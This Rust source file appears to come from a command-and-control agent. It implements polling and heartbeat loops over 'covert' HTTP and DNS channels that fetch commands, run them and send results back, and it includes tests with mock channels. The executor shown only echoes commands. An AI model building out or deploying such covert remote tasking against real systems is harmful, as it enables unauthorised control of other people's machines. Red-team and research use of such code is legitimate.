//! Tasking and heartbeat loops
//!
//! One polling loop and one heartbeat loop run per enabled channel. Each
//! iteration drains the channel's pending commands, executes them in
//! order, and reports output through whatever capability the channel
//! offers. A failed report is dropped, never retried; the next poll
//! carries on regardless.

use std::sync::Arc;
use std::time::Duration;

use async_trait::async_trait;
use tokio_util::sync::CancellationToken;

use sk_channel::CovertChannel;
use sk_core::types::{AgentId, Command, CommandResult};

/// Executes a single command and produces its textual output
#[async_trait]
pub trait CommandExecutor: Send + Sync {
    async fn execute(&self, command: &Command) -> String;
}

/// Simulated execution: echoes the payload back instead of running it
pub struct EchoExecutor;

#[async_trait]
impl CommandExecutor for EchoExecutor {
    async fn execute(&self, command: &Command) -> String {
        format!("Executed: {}", command.payload)
    }
}

/// Poll the channel for commands, execute them in order, and report
/// output until the shutdown signal fires.
///
/// Output goes through `send_output` when the channel supports it,
/// otherwise (or when that report fails) through `send_message`. Channels
/// with neither capability get their output dropped with a log line.
pub async fn polling_loop<C: CovertChannel>(
    channel: Arc<C>,
    executor: Arc<dyn CommandExecutor>,
    agent_id: AgentId,
    poll_interval: Duration,
    cancel: CancellationToken,
) {
    let caps = channel.capabilities();
    tracing::info!(channel = %channel.kind(), "Polling loop started");

    loop {
        let commands = channel.poll_commands().await;
        for command in commands {
            tracing::info!(
                channel = %channel.kind(),
                command_id = %command.id,
                "Executing command"
            );
            let output = executor.execute(&command).await;

            let mut reported = false;
            if caps.output {
                let result = CommandResult::new(agent_id.clone(), output.clone());
                reported = channel.send_output(&result).await;
            }
            if !reported && caps.messaging {
                channel.send_message(&output).await;
                reported = true;
            }
            if !reported {
                tracing::warn!(
                    channel = %channel.kind(),
                    command_id = %command.id,
                    "No report path for command output; dropping"
                );
            }
        }

        tokio::select! {
            _ = cancel.cancelled() => break,
            _ = tokio::time::sleep(poll_interval) => {}
        }
    }

    tracing::info!(channel = %channel.kind(), "Polling loop stopped");
}

/// Send periodic heartbeats until the shutdown signal fires.
///
/// Returns immediately for channels that advertise no heartbeat support.
pub async fn heartbeat_loop<C: CovertChannel>(
    channel: Arc<C>,
    heartbeat_interval: Duration,
    cancel: CancellationToken,
) {
    if !channel.capabilities().heartbeat {
        tracing::debug!(channel = %channel.kind(), "Channel has no heartbeat support; skipping");
        return;
    }
    tracing::info!(channel = %channel.kind(), "Heartbeat loop started");

    loop {
        if !channel.heartbeat().await {
            tracing::warn!(channel = %channel.kind(), "Heartbeat failed");
        }

        tokio::select! {
            _ = cancel.cancelled() => break,
            _ = tokio::time::sleep(heartbeat_interval) => {}
        }
    }

    tracing::info!(channel = %channel.kind(), "Heartbeat loop stopped");
}

#[cfg(test)]
mod tests {
    use super::*;
    use sk_channel::Capabilities;
    use sk_core::types::TransportKind;
    use std::sync::Mutex;

    /// Scripted channel supporting every capability
    struct MockChannel {
        pending: Mutex<Vec<Command>>,
        outputs: Mutex<Vec<String>>,
        messages: Mutex<Vec<String>>,
        heartbeats: Mutex<u32>,
        output_succeeds: bool,
    }

    impl MockChannel {
        fn new(commands: Vec<Command>, output_succeeds: bool) -> Self {
            Self {
                pending: Mutex::new(commands),
                outputs: Mutex::new(Vec::new()),
                messages: Mutex::new(Vec::new()),
                heartbeats: Mutex::new(0),
                output_succeeds,
            }
        }
    }

    #[async_trait]
    impl CovertChannel for MockChannel {
        fn kind(&self) -> TransportKind {
            TransportKind::Http
        }

        fn capabilities(&self) -> Capabilities {
            Capabilities::ALL
        }

        async fn send_message(&self, message: &str) -> String {
            self.messages.lock().unwrap().push(message.to_string());
            "ack".to_string()
        }

        async fn poll_commands(&self) -> Vec<Command> {
            std::mem::take(&mut *self.pending.lock().unwrap())
        }

        async fn send_output(&self, result: &CommandResult) -> bool {
            if self.output_succeeds {
                self.outputs.lock().unwrap().push(result.output.clone());
            }
            self.output_succeeds
        }

        async fn heartbeat(&self) -> bool {
            *self.heartbeats.lock().unwrap() += 1;
            true
        }
    }

    /// Channel that only supports one-shot messaging
    struct MessagingOnlyChannel {
        messages: Mutex<Vec<String>>,
    }

    #[async_trait]
    impl CovertChannel for MessagingOnlyChannel {
        fn kind(&self) -> TransportKind {
            TransportKind::Dns
        }

        fn capabilities(&self) -> Capabilities {
            Capabilities::MESSAGING_ONLY
        }

        async fn send_message(&self, message: &str) -> String {
            self.messages.lock().unwrap().push(message.to_string());
            "ack".to_string()
        }

        async fn poll_commands(&self) -> Vec<Command> {
            Vec::new()
        }

        async fn send_output(&self, _result: &CommandResult) -> bool {
            false
        }

        async fn heartbeat(&self) -> bool {
            false
        }
    }

    fn run_one_cycle_token() -> CancellationToken {
        // Pre-cancelled so the loop runs exactly one poll cycle
        let cancel = CancellationToken::new();
        cancel.cancel();
        cancel
    }

    #[tokio::test]
    async fn test_commands_executed_in_order_and_reported() {
        let channel = Arc::new(MockChannel::new(
            vec![Command::new("first"), Command::new("second")],
            true,
        ));

        polling_loop(
            Arc::clone(&channel),
            Arc::new(EchoExecutor),
            AgentId::new("agent_t"),
            Duration::from_secs(10),
            run_one_cycle_token(),
        )
        .await;

        let outputs = channel.outputs.lock().unwrap().clone();
        assert_eq!(outputs, vec!["Executed: first", "Executed: second"]);
        assert!(channel.messages.lock().unwrap().is_empty());
    }

    #[tokio::test]
    async fn test_failed_output_falls_back_to_messaging() {
        let channel = Arc::new(MockChannel::new(vec![Command::new("ls")], false));

        polling_loop(
            Arc::clone(&channel),
            Arc::new(EchoExecutor),
            AgentId::new("agent_t"),
            Duration::from_secs(10),
            run_one_cycle_token(),
        )
        .await;

        assert!(channel.outputs.lock().unwrap().is_empty());
        assert_eq!(
            channel.messages.lock().unwrap().clone(),
            vec!["Executed: ls"]
        );
    }

    #[tokio::test]
    async fn test_messaging_only_channel_reports_via_message() {
        // poll_commands is empty here; the fallback path is covered above.
        // This verifies the loop tolerates a channel with no output/poll
        // support and exits cleanly.
        let channel = Arc::new(MessagingOnlyChannel {
            messages: Mutex::new(Vec::new()),
        });

        polling_loop(
            Arc::clone(&channel),
            Arc::new(EchoExecutor),
            AgentId::new("agent_t"),
            Duration::from_secs(10),
            run_one_cycle_token(),
        )
        .await;

        assert!(channel.messages.lock().unwrap().is_empty());
    }

    #[tokio::test]
    async fn test_heartbeat_loop_sends_and_exits() {
        let channel = Arc::new(MockChannel::new(Vec::new(), true));

        heartbeat_loop(
            Arc::clone(&channel),
            Duration::from_secs(10),
            run_one_cycle_token(),
        )
        .await;

        assert_eq!(*channel.heartbeats.lock().unwrap(), 1);
    }

    #[tokio::test]
    async fn test_heartbeat_loop_skips_unsupported_channel() {
        let channel = Arc::new(MessagingOnlyChannel {
            messages: Mutex::new(Vec::new()),
        });

        // Live token: the loop must return on its own, not via cancellation
        heartbeat_loop(channel, Duration::from_secs(10), CancellationToken::new()).await;
    }

    #[tokio::test]
    async fn test_echo_executor_simulates_execution() {
        let command = Command::new("whoami");
        assert_eq!(EchoExecutor.execute(&command).await, "Executed: whoami");
    }
}
